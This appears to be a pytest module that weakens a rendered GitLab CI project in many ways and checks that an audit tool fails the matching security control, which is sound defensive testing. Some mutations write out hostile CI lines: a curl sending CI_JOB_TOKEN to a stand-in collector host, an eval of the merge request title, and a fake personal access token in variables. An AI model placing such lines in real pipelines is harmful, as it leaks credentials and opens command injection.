"""Each weakening of a rendered GitLab project fails the control it weakens (issue 10).

The base is a GitLab Premium render (Python, Terraform, containers); every mutation keeps the files valid YAML
and changes what GitLab would do: a scanner allowed to fail, skipped on merge requests or made manual, `|| true`
after a scanner, a production job that starts by itself or has no environment, artifacts without expire_in, an
image by a moving tag, the job token sent elsewhere, a secret written into variables:, and the settings
payloads weakened.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from generator import render
from generator.audit import audit
from tests.helpers import GOLDEN, mask, resolve

CI = ".gitlab-ci.yml"
SETTINGS = ".gitlab/settings"
ANSWERS: dict[str, Any] = {
    "platform": "gitlab",
    "gitlab_tier": "premium",
    "language": "python",
    "iac": ["terraform"],
    "containers": True,
    "security_team": "@acme/security",
    "required_approvals": 2,
}
Mutate = Callable[[Path], None]


FREE_ANSWERS: dict[str, Any] = {
    "platform": "gitlab",
    "gitlab_tier": "free",
    "language": "go",
    "containers": False,
    "evidence_store": "none",
    "security_team": "@acme/security",
}


def _tree(tmp_path_factory: pytest.TempPathFactory, name: str, answers: dict[str, Any]) -> Path:
    """A GitLab golden tree when it exists, else the same answers rendered now."""
    golden = GOLDEN / name
    dest = tmp_path_factory.mktemp("gitlab") / name
    if (golden / CI).is_file():
        shutil.copytree(golden, dest)
    else:
        render.copy(dest, resolve(answers, dest))
        mask(dest)
    return dest


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _tree(tmp_path_factory, "gitlab-premium-python", ANSWERS)


@pytest.fixture(scope="module")
def free(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _tree(tmp_path_factory, "gitlab-free-go", FREE_ANSWERS)


def ci(change: Callable[[dict[str, Any]], None]) -> Mutate:
    def mutate(tree: Path) -> None:
        path = tree / CI
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        change(data)
        path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")

    return mutate


def payload(name: str, change: Callable[[dict[str, Any]], None]) -> Mutate:
    def mutate(tree: Path) -> None:
        path = tree / SETTINGS / name
        data = json.loads(path.read_text(encoding="utf-8"))
        change(data["body"])
        path.write_text(json.dumps(data, indent=2), encoding="utf-8")

    return mutate


def _append_to_script(job: str, suffix: str, match: str) -> Callable[[dict[str, Any]], None]:
    def change(d: dict[str, Any]) -> None:
        script = d[job]["script"]
        index = next(i for i, line in enumerate(script) if match in line)
        script[index] = script[index].rstrip() + suffix

    return change


def _set(job: str, key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda d: d[job].__setitem__(key, value)


def _pop(job: str, *keys: str) -> Callable[[dict[str, Any]], None]:
    def change(d: dict[str, Any]) -> None:
        node = d[job]
        for key in keys[:-1]:
            node = node[key]
        node.pop(keys[-1])

    return change


def _not_manual(d: dict[str, Any]) -> None:
    for rule in d["deploy-production"]["rules"]:
        rule.pop("when", None)


def _production_from_any_branch(d: dict[str, Any]) -> None:
    # Branch pipelines for every branch, and a production job that needs nothing there (with its needs: kept,
    # GitLab would refuse those pipelines: the jobs it needs are not added on other branches).
    d["workflow"]["rules"].append({"if": "$CI_COMMIT_BRANCH"})
    d["deploy-production"]["rules"] = [{"if": "$CI_COMMIT_BRANCH", "when": "manual", "allow_failure": False}]
    d["deploy-production"]["needs"] = []


def _never_on_mr(job: str) -> Callable[[dict[str, Any]], None]:
    def change(d: dict[str, Any]) -> None:
        d[job]["rules"].insert(0, {"if": '$CI_PIPELINE_SOURCE == "merge_request_event"', "when": "never"})

    return change


def _manual_on_mr(job: str) -> Callable[[dict[str, Any]], None]:
    def change(d: dict[str, Any]) -> None:
        d[job]["rules"][0]["when"] = "manual"

    return change


def _token_to(job: str, url: str) -> Callable[[dict[str, Any]], None]:
    return lambda d: d[job]["script"].append(f'curl --fail -H "JOB-TOKEN: ${{CI_JOB_TOKEN}}" {url}')


def _secret_variable(d: dict[str, Any]) -> None:
    d.setdefault("variables", {})["DEPLOY_TOKEN"] = "glpat-" + "x1Y2z3" * 4


def _drop_mr_workflow(d: dict[str, Any]) -> None:
    d["workflow"]["rules"] = [r for r in d["workflow"]["rules"] if "merge_request_event" not in str(r.get("if"))]


def _tools_default_branch_only(d: dict[str, Any]) -> None:
    d["tools"]["rules"] = [{"if": "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"}]


def _store_text(old: str, new: str) -> Mutate:
    """A weakening of the evidence store's Terraform (the same module as on GitHub)."""

    def change(tree: Path) -> None:
        path = tree / "infrastructure/evidence-store/main.tf"
        text = path.read_text()
        assert old in text, old
        path.write_text(text.replace(old, new))

    return change


MUTATIONS: dict[str, tuple[Mutate, str]] = {
    # The eight weakenings issue 10 names.
    "scanner-allow-failure": (ci(_set("sast", "allow_failure", True)), "PP-SCAN-01"),
    "rules-never-on-merge-requests": (ci(_never_on_mr("secrets")), "PP-SCAN-04"),
    "or-true-after-scanner": (ci(_append_to_script("sast", " || true", "semgrep scan")), "PP-SCAN-01"),
    "or-true-after-licence-gate": (ci(_append_to_script("sca", " || true", "osv-gate")), "PP-SCAN-12"),
    "production-not-manual": (ci(_not_manual), "PP-DEPLOY-01"),
    "production-from-any-branch": (ci(_production_from_any_branch), "PP-DEPLOY-01"),
    "production-without-environment": (ci(_pop("deploy-production", "environment")), "PP-DEPLOY-01"),
    "expire-in-missing": (ci(_pop("sast", "artifacts", "expire_in")), "PP-EVID-03"),
    "image-by-tag": (ci(_set("sast", "image", "semgrep/semgrep:latest")), "PP-HARD-09"),
    "job-token-elsewhere": (ci(_token_to("sast", "https://collector.example.net/ci")), "PP-HARD-02"),
    "secret-in-variables": (ci(_secret_variable), "PP-HARD-05"),
    # GitLab semantics the words do not show.
    "allow-failure-exit-code-1": (ci(_set("secrets", "allow_failure", {"exit_codes": [1]})), "PP-SCAN-04"),
    "scanner-manual-on-merge-requests": (ci(_manual_on_mr("iac")), "PP-SCAN-07"),
    "workflow-without-merge-requests": (ci(_drop_mr_workflow), "PP-SCAN-10"),
    "needs-a-job-the-mr-pipeline-lacks": (ci(_tools_default_branch_only), "PP-SCAN-02"),
    "rollback-job-removed": (ci(lambda d: d.pop("rollback-production")), "PP-DEPLOY-04"),
    "record-on-failure-removed": (ci(lambda d: d.pop("rollback-production")), "PP-EVID-01"),
    "untrusted-title-evaluated": (
        ci(lambda d: d["sast"]["script"].append('eval "echo ${CI_MERGE_REQUEST_TITLE}"')),
        "PP-HARD-03",
    ),
    "no-timeout-anywhere": (
        ci(lambda d: (d["default"].pop("timeout", None), d["sast"].pop("timeout"))),
        "PP-HARD-07",
    ),
    "production-interruptible": (ci(_set("deploy-production", "interruptible", True)), "PP-HARD-07"),
    "drift-audit-allowed-to-fail": (ci(_set("controls-drift", "allow_failure", True)), "PP-HARD-10"),
    "container-scan-never-on-merge-requests": (ci(_never_on_mr("container")), "PP-SCAN-08"),
    "sbom-never-on-merge-requests": (ci(_never_on_mr("sbom")), "PP-SCAN-03"),
    "production-skips-staging": (
        ci(
            lambda d: d["deploy-production"].__setitem__(
                "needs", [n for n in d["deploy-production"]["needs"] if n not in {"deploy-staging", "dast"}]
            )
        ),
        "PP-DEPLOY-02",
    ),
    "a-check-after-production": (
        ci(
            lambda d: d.__setitem__(
                "late-scan",
                {
                    "stage": "record",
                    "needs": [],
                    "rules": [{"if": "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"}],
                    "timeout": "10 minutes",
                    "interruptible": True,
                    "script": ["trivy fs --exit-code 1 --severity HIGH,CRITICAL ."],
                },
            )
        ),
        "PP-DEPLOY-03",
    ),
    "rollback-drill-removed": (ci(lambda d: d.pop("rollback-drill")), "PP-DEPLOY-05"),
    "records-not-shipped": (
        ci(
            lambda d: [
                job.__setitem__("script", [x for x in job["script"] if "ship-evidence" not in str(x)])
                for name, job in d.items()
                if isinstance(job, dict) and isinstance(job.get("script"), list)
            ]
        ),
        "PP-EVID-02",
    ),
    "audit-export-removed": (ci(lambda d: d.pop("audit-export")), "PP-EVID-04"),
    "verify-evidence-removed": (ci(lambda d: d.pop("verify-evidence")), "PP-EVID-05"),
    "protect-check-removed": (ci(lambda d: d.pop("protect-check") and d.pop("protect-ship")), "PP-EVID-07"),
    "protect-check-allowed-to-fail": (ci(_set("protect-check", "allow_failure", True)), "PP-EVID-07"),
    "evidence-store-governance": (_store_text('mode  = "COMPLIANCE"', 'mode  = "GOVERNANCE"'), "PP-EVID-06"),
    "evidence-store-any-project": (
        _store_text('"project_path:acme/gitlab-premium-python:ref_type:branch:ref:main"', '"project_path:acme/*"'),
        "PP-EVID-06",
    ),
    "renovate-removed": (lambda tree: next(tree.glob("*renovate.json")).unlink(), "PP-HARD-08"),
    "pre-commit-removed": (lambda tree: (tree / ".pre-commit-config.yaml").unlink(), "PP-SCAN-05"),
    "gitleaksignore-added": (
        lambda tree: (tree / ".gitleaksignore").write_text("a1b2c3:src/app.py:generic-api-key:12\n"),
        "PP-SCAN-06",
    ),
    "someone-may-push": (
        payload(
            "protected-branch.json",
            lambda b: b.__setitem__("allowed_to_push", [{"user_id": {"$user": "release-bot"}}]),
        ),
        "PP-BRANCH-02",
    ),
    # The settings payloads.
    "direct-push-allowed": (
        payload("protected-branch.json", lambda b: b.__setitem__("push_access_level", 30)),
        "PP-BRANCH-01",
    ),
    "force-push-allowed": (
        payload("protected-branch.json", lambda b: b.__setitem__("allow_force_push", True)),
        "PP-BRANCH-05",
    ),
    "pipeline-need-not-succeed": (
        payload("project.json", lambda b: b.__setitem__("only_allow_merge_if_pipeline_succeeds", False)),
        "PP-BRANCH-04",
    ),
    "approvals-survive-pushes": (
        payload("approval-settings.json", lambda b: b.__setitem__("reset_approvals_on_push", False)),
        "PP-BRANCH-03",
    ),
    "codeowners-removed": (lambda tree: (tree / ".gitlab" / "CODEOWNERS").unlink(), "PP-BRANCH-06"),
}


MUTATIONS["dast-gate-removed"] = (
    ci(lambda d: d["dast"].__setitem__("script", [x for x in d["dast"]["script"] if "zap-gate" not in x])),
    "PP-SCAN-09",
)


def statuses(tree: Path) -> dict[str, str]:
    return {r.control.id: r.status for r in audit(tree).results}


def test_the_base_passes_every_control_a_mutation_weakens(base: Path) -> None:
    found = statuses(base)
    targets = sorted({control for _mutate, control in MUTATIONS.values()})
    assert {c: found[c] for c in targets} == dict.fromkeys(targets, "pass")


@pytest.mark.parametrize("name", sorted(MUTATIONS))
def test_each_gitlab_weakening_fails_the_right_control(name: str, base: Path, tmp_path: Path) -> None:
    mutate, control = MUTATIONS[name]
    tree = tmp_path / "tree"
    shutil.copytree(base, tree)
    mutate(tree)
    result = next(r for r in audit(tree).results if r.control.id == control)
    assert result.status == "fail", f"{name}: {control} is {result.status}: {result.reason}"


def _without_review_gate(d: dict[str, Any]) -> None:
    script = d["deploy-production"]["script"]
    kept = [line for line in script if "review-gate" not in line]
    assert len(kept) == len(script) - 1, "the Free production job runs review-gate.sh once"
    d["deploy-production"]["script"] = kept


# GitLab Free: no approval rules exist, so the production job's own verification of the approvals is the control.
FREE_MUTATIONS: dict[str, tuple[Mutate, tuple[str, ...]]] = {
    "free-review-gate-removed": (ci(_without_review_gate), ("PP-BRANCH-01", "PP-DEPLOY-01")),
    "free-review-gate-may-fail": (
        ci(_append_to_script("deploy-production", " || echo 'approvals not verified'", "review-gate")),
        ("PP-BRANCH-01", "PP-DEPLOY-01"),
    ),
}


def test_the_free_base_passes_what_its_mutations_weaken(free: Path) -> None:
    found = statuses(free)
    targets = sorted({c for _m, controls in FREE_MUTATIONS.values() for c in controls})
    assert {c: found[c] for c in targets} == dict.fromkeys(targets, "pass")


@pytest.mark.parametrize("name", sorted(FREE_MUTATIONS))
def test_each_free_tier_weakening_fails_the_right_controls(name: str, free: Path, tmp_path: Path) -> None:
    mutate, controls = FREE_MUTATIONS[name]
    tree = tmp_path / "tree"
    shutil.copytree(free, tree)
    mutate(tree)
    found = statuses(tree)
    assert {c: found[c] for c in controls} == dict.fromkeys(controls, "fail")


def test_cloud_access_without_id_tokens_is_unknown(base: Path, tmp_path: Path) -> None:
    """Without id_tokens the evidence job's aws calls sign in with what CI/CD variables or the runner hold, which
    the files cannot show: not a failure, not a pass."""
    tree = tmp_path / "tree"
    shutil.copytree(base, tree)
    ci(_pop("evidence", "id_tokens"))(tree)
    result = next(r for r in audit(tree).results if r.control.id == "PP-HARD-05")
    assert result.status == "unknown", result.reason
    assert any("job evidence runs `aws" in f.message for f in result.findings), result.findings


def test_an_include_from_another_project_on_a_branch_fails_pinning(base: Path, tmp_path: Path) -> None:
    """The rendered pipeline includes nothing from elsewhere (PP-HARD-01 not applicable); a project include on a
    branch fails it, and the scanners that block still pass whatever the include may add."""
    assert statuses(base)["PP-HARD-01"] == "not-applicable"
    tree = tmp_path / "tree"
    shutil.copytree(base, tree)
    ci(lambda d: d.__setitem__("include", [{"project": "acme/ci-templates", "ref": "main", "file": "/lint.yml"}]))(tree)
    found = statuses(tree)
    assert found["PP-HARD-01"] == "fail"
    assert found["PP-SCAN-01"] == "pass"


def test_a_suppression_file_without_a_waiver_fails(base: Path, tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    shutil.copytree(base, tree)
    (tree / ".trivyignore").write_text("CVE-2026-0001\n")
    result = next(r for r in audit(tree).results if r.control.id == "PP-SCAN-11")
    assert result.status == "fail"
    assert ".trivyignore:1" in [f.where for f in result.findings]


# Weakened by the tests above that are not in the tables (a base status other than pass).
_OTHER_TESTS = {"PP-HARD-01", "PP-SCAN-11"}


def test_every_control_that_applies_to_the_gitlab_base_has_a_weakening(base: Path) -> None:
    weakened = {c for _m, c in MUTATIONS.values()} | {c for _m, cs in FREE_MUTATIONS.values() for c in cs}
    applying = {r.control.id for r in audit(base).results if r.status != "not-applicable"}
    assert applying - weakened - _OTHER_TESTS == set()


# --- Argo CD on GitLab: weakenings of the promotion gate, the records and the rollback --------------------


@pytest.fixture(scope="module")
def argo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    golden = GOLDEN / "gitlab-argocd-premium"
    assert (golden / CI).is_file(), "the GitLab Argo CD golden tree is missing: run pytest --update-golden"
    dest = tmp_path_factory.mktemp("gitlab") / golden.name
    shutil.copytree(golden, dest)
    return dest


def _drop(job: str) -> Callable[[dict[str, Any]], None]:
    return lambda d: d.pop(job)


def _record_on_success_only(d: dict[str, Any]) -> None:
    for rule in d["record-production"]["rules"]:
        rule.pop("when", None)


def _without_codeowners_of(folder: str) -> Mutate:
    def mutate(tree: Path) -> None:
        path = tree / ".gitlab/CODEOWNERS"
        lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
        path.write_text("".join(x for x in lines if not x.startswith(folder)), encoding="utf-8")

    return mutate


def _required_jobs_without(name: str) -> Callable[[dict[str, Any]], None]:
    def change(d: dict[str, Any]) -> None:
        variables = d["verify-production"]["variables"]
        variables["REQUIRED_JOBS"] = "".join(f"{j}\n" for j in variables["REQUIRED_JOBS"].split() if j != name)

    return change


ARGO_MUTATIONS: dict[str, tuple[Mutate, str]] = {
    "argo-gate-ignores-the-dast-pipeline": (ci(_pop("verify-production", "variables", "DAST_JOB")), "PP-SCAN-09"),
    "argo-gate-may-fail": (
        ci(_append_to_script("verify-production", " || echo 'not verified'", "promotion-check")),
        "PP-SCAN-09",
    ),
    "argo-gate-ignores-the-build": (ci(_required_jobs_without("build")), "PP-SCAN-08"),
    "argo-gate-ignores-the-sbom": (ci(_required_jobs_without("build")), "PP-SCAN-03"),
    "argo-no-sync-record": (ci(_drop("sync-record")), "PP-ARGO-04"),
    "argo-no-rollback": (ci(_drop("rollback")), "PP-ARGO-04"),
    "argo-record-only-when-the-gates-pass": (ci(_record_on_success_only), "PP-EVID-01"),
    "argo-production-path-not-code-owned": (_without_codeowners_of("/argocd/"), "PP-ARGO-03"),
}


def test_the_argocd_base_passes_every_control_a_mutation_weakens(argo: Path) -> None:
    found = statuses(argo)
    targets = sorted({control for _mutate, control in ARGO_MUTATIONS.values()})
    assert {c: found[c] for c in targets} == dict.fromkeys(targets, "pass")


@pytest.mark.parametrize("name", sorted(ARGO_MUTATIONS))
def test_each_gitlab_argocd_weakening_fails_the_right_control(name: str, argo: Path, tmp_path: Path) -> None:
    mutate, control = ARGO_MUTATIONS[name]
    tree = tmp_path / "tree"
    shutil.copytree(argo, tree)
    mutate(tree)
    result = next(r for r in audit(tree).results if r.control.id == control)
    assert result.status == "fail", f"{name}: {control} is {result.status}: {result.reason}"
